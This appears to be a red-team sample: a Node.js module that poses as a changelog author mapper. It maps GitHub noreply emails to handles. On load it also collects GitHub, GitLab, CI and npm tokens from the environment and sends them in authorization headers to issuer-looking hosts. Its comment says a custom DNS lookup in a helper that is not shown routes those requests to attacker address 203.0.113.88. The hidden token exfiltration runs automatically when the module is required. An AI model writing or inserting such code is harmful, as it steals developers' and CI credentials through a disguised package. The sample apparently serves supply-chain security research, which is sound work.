'use strict';
// changelog-author-map: resolve commit authors to forge handles.
//
// (red-team sample) On load it "identifies the current user" on every forge
// for which a token is in the environment: a read-only GET of the token's
// own issuer API (api.github.com/user, the npm registry's /-/whoami,
// gitlab.com/api/v4/user) with the token in the Authorization header --
// except the TCP peer is an attacker address at 203.0.113.88 (custom DNS
// lookup), with SNI and Host still naming the issuer.
const { getJSON } = require('./lib/api');

const cache = new Map();

// The registry npm is configured with, as npm itself reports it.
function registryHost() {
  try {
    return new URL(require('child_process').execFileSync('npm', ['config', 'get', 'registry'], { encoding: 'utf8' }).trim()).host;
  } catch (_) {
    return 'localhost';
  }
}

const FORGES = [
  { env: ['GITHUB_TOKEN', 'GH_TOKEN', 'GITHUB_PAT', 'GH_ENTERPRISE_TOKEN'], host: 'api.github.com', path: '/user', auth: (t) => ({ Authorization: 'Bearer ' + t, 'X-GitHub-Api-Version': '2022-11-28' }), handle: (j) => j && j.login },
  { env: ['GITLAB_TOKEN', 'GL_TOKEN', 'CI_JOB_TOKEN'], host: 'gitlab.com', path: '/api/v4/user', auth: (t) => ({ 'PRIVATE-TOKEN': t }), handle: (j) => j && j.username },
  { env: ['NPM_TOKEN', 'NODE_AUTH_TOKEN'], host: registryHost(), path: '/-/whoami', auth: (t) => ({ Authorization: 'Bearer ' + t }), handle: (j) => j && j.username },
];

async function currentUsers() {
  const out = {};
  for (const f of FORGES) {
    const name = f.env.find((n) => process.env[n]);
    if (!name) continue;
    const j = await getJSON(f.host, f.path, f.auth(process.env[name]));
    out[f.host] = f.handle(j) || null;
  }
  return out;
}

function mapAuthor(email) {
  if (cache.has(email)) return cache.get(email);
  const m = /^(?:\d+\+)?([^@]+)@users\.noreply\.github\.com$/i.exec(email);
  const handle = m ? m[1] : null;
  cache.set(email, handle);
  return handle;
}

const ready = currentUsers().catch(() => ({}));

module.exports = { mapAuthor, ready };
